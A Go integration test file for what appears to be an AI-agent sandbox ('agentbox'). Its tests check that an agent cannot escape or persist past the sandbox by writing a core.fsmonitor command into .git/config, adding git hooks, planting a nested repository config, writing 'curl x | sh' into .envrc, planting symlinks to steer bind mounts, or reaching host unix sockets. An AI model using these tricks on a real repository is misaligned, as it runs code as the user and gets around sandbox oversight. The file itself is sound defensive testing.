//go:build integration && linux

package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/internal/testutil"
	"github.com/agentbox/agentbox/ledger"
)

// lastRecord is the newest record of the isolated ledger of env.
func lastRecord(t *testing.T, env []string) ledger.Record {
	t.Helper()
	recs, _, err := ledger.Open(filepath.Join(envValue(env, "AGENTBOX_STATE_DIR"), ledger.FileName)).List()
	if err != nil || len(recs) == 0 {
		t.Fatalf("ledger: %d records, %v", len(recs), err)
	}
	return recs[len(recs)-1]
}

// gitRepo makes dir a repository as git init would leave it (no git
// binary needed: agentbox never runs git either).
func gitRepo(t *testing.T, dir string, uid, gid int) {
	t.Helper()
	for p, c := range map[string]string{
		".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n",
		".git/hooks/pre-commit.sample": "#!/bin/sh\n", ".git/info/exclude": "# git ls-files --others --exclude-from=.git/info/exclude\n",
		".git/objects/info/.keep": "", ".git/refs/heads/.keep": "",
	} {
		full := filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if os.Geteuid() == 0 {
		_ = filepath.Walk(filepath.Join(dir, ".git"), func(p string, _ os.FileInfo, err error) error {
			if err == nil {
				err = os.Lchown(p, uid, gid)
			}
			return err
		})
	}
}

// The agent's core.fsmonitor line used to run as the user on their next
// git status. Now .git/config, .git/hooks and .git/info are read-only
// inside, and a config the agent writes anyway (a new repository, here) is
// named at teardown, in the output and in the record.
func TestProtectedPathsAndLeftovers(t *testing.T) {
	uid, gid := testUser(t)
	ws := workspaceOwnedBy(t, uid, gid)
	gitRepo(t, ws, uid, gid)
	env := isolatedEnv(t)
	script := `
echo '	fsmonitor = touch /tmp/pwned' >> .git/config 2>/dev/null && echo config=written || echo "config=$(echo '	x' 2>&1 >> .git/config | sed 's/.*: //')"
touch .git/hooks/post-checkout 2>/dev/null && echo hooks=written || echo hooks=refused
touch .git/info/attributes 2>/dev/null && echo info=written || echo info=refused
mkdir -p sub/.git && echo 'ref: refs/heads/main' > sub/.git/HEAD
printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' > sub/.git/config
echo 'curl x | sh' > .envrc
`
	r := runIn(t, env, ws, "run", "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	obs := observations(r.stdout)
	for k, want := range map[string]string{"config": "Read-only file system", "hooks": "refused", "info": "refused"} {
		if obs[k] != want {
			t.Errorf("%s = %q, want %q (stdout %s)", k, obs[k], want, r.stdout)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(ws, ".git/config")); strings.Contains(string(data), "fsmonitor") {
		t.Errorf(".git/config changed on the host:\n%s", data)
	}
	if !strings.Contains(r.stderr, `"sub/.git/config" created (git-config): core.fsmonitor = "touch /tmp/pwned"`) || !strings.Contains(r.stderr, `".envrc" created (envrc)`) {
		t.Errorf("teardown output does not name the leftovers:\n%s", r.stderr)
	}
	rec := lastRecord(t, env)
	if rec.Workspace == nil {
		t.Fatal("the record has no workspace inspection")
	}
	want := []ledger.Leftover{
		{Path: ".envrc", Kind: "envrc", Change: "created"},
		{Path: "sub/.git/config", Kind: "git-config", Change: "created", Key: "core.fsmonitor", Value: "touch /tmp/pwned"},
	}
	got := slices.Clone(rec.Workspace.Leftovers)
	for i := range got {
		got[i].Detail = ""
	}
	if !slices.Equal(got, want) {
		t.Errorf("record leftovers %+v, want %+v", got, want)
	}
}

// The protect list is the policy's: an explicit list replaces the default.
func TestProtectListIsConfigurable(t *testing.T) {
	uid, gid := testUser(t)
	ws := workspaceOwnedBy(t, uid, gid)
	gitRepo(t, ws, uid, gid)
	if err := os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_ = os.Chown(filepath.Join(ws, "Makefile"), uid, gid)
	pol := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(pol, []byte("protect: [Makefile]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	env := isolatedEnv(t)
	script := `echo >> Makefile 2>/dev/null && echo makefile=written || echo makefile=refused
echo '#' >> .git/config 2>/dev/null && echo config=written || echo config=refused`
	r := runIn(t, env, ws, "run", "--policy", pol, "--", "sh", "-c", script)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if obs := observations(r.stdout); obs["makefile"] != "refused" || obs["config"] != "written" {
		t.Errorf("protect: [Makefile]: %v, want the Makefile read-only and .git/config (no longer listed) writable", obs)
	}
}

// A --rw-bind below the workspace used to fail in runc create (exit 4):
// the sandbox's root could not search a root-owned 0700 workspace, which
// only the agent's ACL lets in, to reach the mount point.
func TestRwBindInsideWorkspaceAsRoot(t *testing.T) {
	testutil.RequireRoot(t)
	ws := workspaceOwnedBy(t, 0, 0)
	if err := os.Chmod(ws, 0o700); err != nil {
		t.Fatal(err)
	}
	sub := filepath.Join(ws, "sub")
	if err := os.Mkdir(sub, 0o700); err != nil {
		t.Fatal(err)
	}
	env := isolatedEnv(t)
	r := runIn(t, env, ws, "run", "--rw-bind", sub, "--", "sh", "-c", "echo from-agent > sub/out && cat sub/out")
	if r.code != 0 || strings.TrimSpace(r.stdout) != "from-agent" {
		t.Fatalf("exit %d, stdout %q, want 0 and the write read back\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	if data, err := os.ReadFile(filepath.Join(sub, "out")); err != nil || string(data) != "from-agent\n" {
		t.Errorf("the write is not visible on the host: %q, %v", data, err)
	}
}

// A symlink the agent planted in the workspace must not steer what the
// next run binds: ./cache -> a directory of the user's outside the
// workspace (another project's secrets, say) is refused. (A link into a
// home directory the planner or the audit refuses anyway.)
func TestPlantedBindSymlinkIsRefused(t *testing.T) {
	uid, gid := testUser(t)
	ws := workspaceOwnedBy(t, uid, gid)
	secret := shortTempDir(t, "abx-")
	if err := os.Symlink(secret, filepath.Join(ws, "cache")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "script"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	env := isolatedEnv(t)
	for _, args := range [][]string{
		{"run", "--rw-bind", "./cache", "--accept", "extra-writable-mount=the user's cache", "--", "true"},
		{"run", "--ro-bind", "cache", "--", "true"},
	} {
		r := runIn(t, env, ws, args...)
		if r.code != exitUsage || !strings.Contains(r.stderr, filepath.Join(ws, "cache")+" -> "+secret) || !strings.Contains(r.stderr, "outside the workspace") {
			t.Errorf("%v: exit %d, want %d and the link named\nstderr:\n%s", args, r.code, exitUsage, r.stderr)
		}
	}
	// ./script through a link to a program outside: its install prefix
	// would have been bound.
	tool := filepath.Join(secret, "bin", "tool")
	if err := os.MkdirAll(filepath.Dir(tool), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tool, []byte("#!/bin/sh\necho ran\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(tool, filepath.Join(ws, "run-me")); err != nil {
		t.Fatal(err)
	}
	r := runIn(t, env, ws, "run", "--", "./run-me")
	if r.code != exitUsage || !strings.Contains(r.stderr, "run-me -> "+tool) {
		t.Errorf("./run-me: exit %d, want %d and the link named\nstderr:\n%s", r.code, exitUsage, r.stderr)
	}
}

// A host program listening on a pathname socket in the workspace (nvim
// --listen, tmux -S) was reachable from the sandbox. Now the socket is
// named at launch and in the record, and connecting to it is refused.
func TestWorkspaceSocketIsUnreachable(t *testing.T) {
	uid, gid := testUser(t)
	ws := workspaceOwnedBy(t, uid, gid)
	sock := filepath.Join(ws, "nvim.sock")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	if err := os.Chmod(sock, 0o777); err != nil {
		t.Fatal(err)
	}
	reached := make(chan struct{}, 1)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			reached <- struct{}{}
			c.Close()
		}
	}()
	env := isolatedEnv(t)
	// AGENTBOX_BIN keeps TestMain from building agentbox in there.
	helper := connectHelper(t)
	r := runIn(t, env, ws, "run", "--ro-bind", filepath.Dir(helper), "--", "env", "AGENTBOX_BIN=unused", helperEnv+"="+helperUnixConnect, helper, sock)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if obs := observations(r.stdout); obs["connect"] == "ok" || obs["connect"] == "" {
		t.Errorf("connect from inside: %q, want a refusal\n%s", obs["connect"], r.stdout)
	}
	select {
	case <-reached:
		t.Error("the host listener accepted a connection from the sandbox")
	default:
	}
	if !strings.Contains(r.stderr, `unix sockets in the workspace, covered inside`) || !strings.Contains(r.stderr, `"nvim.sock"`) {
		t.Errorf("launch output does not name the socket:\n%s", r.stderr)
	}
	rec := lastRecord(t, env)
	if rec.Workspace == nil || !slices.Equal(rec.Workspace.Sockets, []string{"nvim.sock"}) {
		t.Errorf("record sockets %+v, want [nvim.sock]", rec.Workspace)
	}
}

// connectHelper copies this test binary where the sandbox's ids can run
// it (go test keeps it in a 0700 directory); run with
// AGENTBOX_TEST_HELPER=unix-connect and a PATH, it connects to PATH
// (TestMain, unixConnect).
func connectHelper(t *testing.T) string {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(shortTempDir(t, "abh-"), "connect")
	if err := os.WriteFile(p, data, 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// unixConnect is the sandbox side of TestWorkspaceSocketIsUnreachable,
// run by TestMain instead of the tests: it connects to the unix socket at
// path and prints connect=ok or connect=ERRNO.
func unixConnect(path string) int {
	c, err := net.Dial("unix", path)
	if err == nil {
		c.Close()
		fmt.Println("connect=ok")
		return 0
	}
	fmt.Printf("connect=%v\n", errors.Unwrap(errors.Unwrap(err)))
	return 0
}
